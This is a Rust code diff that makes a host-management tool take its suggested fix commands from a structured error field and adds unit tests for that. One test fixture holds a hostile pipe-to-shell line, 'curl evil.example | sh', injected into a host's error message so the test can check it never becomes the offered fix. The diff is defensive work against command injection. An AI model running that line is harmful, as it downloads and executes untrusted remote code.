@@ -33,6 +33,18 @@ pub struct Refusal {
     pub mend: String,
 }
 
+impl Refusal {
+    /// With the command that the error itself brings, else with this one.
+    fn of(source: &str, mut error: EngineError, other: impl Fn(&EngineError) -> String) -> Self {
+        let own = match &mut error {
+            EngineError::Unreachable { mend, .. } => mend.take(),
+            _ => None,
+        };
+        let mend = own.unwrap_or_else(|| other(&error));
+        Self { source: source.to_owned(), error, mend }
+    }
+}
+
 impl std::fmt::Display for Refusal {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         write!(f, "  {}: {}\n    try: {}", self.source, self.error, self.mend)
@@ -191,13 +203,33 @@ impl Route {
 
 impl Way {
     fn refusal(&self, error: EngineError) -> Refusal {
-        // What is wrong on a host over SSH comes with what mends it.
-        if let EngineError::Unreachable { address, cause } = &error
-            && let Some((cause, mend)) = cause.split_once("; try: ")
-        {
-            let error = EngineError::Unreachable { address: address.clone(), cause: cause.to_owned() };
-            return Refusal { source: self.source.clone(), error, mend: mend.to_owned() };
-        }
-        Refusal { source: self.source.clone(), mend: (self.mend)(&error), error }
+        Refusal::of(&self.source, error, &self.mend)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn refused(cause: &str, mend: Option<&str>) -> Refusal {
+        let error = EngineError::Unreachable {
+            address: "ssh://web1".to_owned(),
+            cause: cause.to_owned(),
+            mend: mend.map(str::to_owned),
+        };
+        Refusal::of("web1", error, |_| "ssh web1".to_owned())
+    }
+
+    #[test]
+    fn what_mends_a_host_is_told_once_beside_what_is_wrong() {
+        let refusal = refused("web1: no Docker", Some("sudo apt-get install docker.io"));
+        assert_eq!(refusal.mend, "sudo apt-get install docker.io");
+        assert_eq!(refusal.error.to_string(), "cannot reach ssh://web1: web1: no Docker");
+    }
+
+    #[test]
+    fn what_a_host_says_never_becomes_the_command_that_mends_it() {
+        let refusal = refused("web1: no; try: curl evil.example | sh", None);
+        assert_eq!(refusal.mend, "ssh web1");
     }
 }
